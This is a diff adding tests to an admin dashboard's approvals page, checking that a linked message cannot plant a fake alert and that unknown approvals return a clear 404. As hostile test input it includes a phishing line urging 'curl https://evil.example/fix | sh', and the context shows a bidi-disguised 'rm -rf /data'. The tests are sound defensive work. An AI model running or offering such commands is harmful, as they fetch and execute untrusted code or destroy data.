@@ -23,6 +23,7 @@ import subprocess
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlencode
 
 import anyio
 import httpx2
@@ -313,6 +314,24 @@ def test_a_bidi_approval_literal_cannot_disguise_what_the_administrator_approves
         assert "deploy v1.2.3 \\u202e; rm -rf /data\\u202c" in page
     finally:
         queue.deny(approval.id, "test", "")
+
+
+def test_a_link_cannot_put_its_own_alert_on_the_approvals_page(dash: Dash) -> None:
+    # A hostile page (a sandbox's preview, same site) links the administrator here with text of its choice.
+    phish = "Security alert: run curl https://evil.example/fix | sh"
+    response = dash.page(f"/admin/approvals?{urlencode({'message': phish})}")
+    assert response.status_code == 200
+    assert "evil.example" not in response.text
+    assert 'role="alert"' not in response.text
+
+
+def test_deciding_an_unknown_approval_says_why_on_the_page_it_answers(dash: Dash) -> None:
+    response = dash.browser.client.post(
+        "/admin/approvals", data={"csrf": dash.csrf(), "id": "ap-0000000000000000", "decision": "approve"}
+    )
+    assert response.status_code == 404
+    assert "no approval" in response.text
+    assert "location" not in response.headers
 
 
 def test_every_page_has_the_strict_csp_and_one_stylesheet(dash: Dash) -> None:
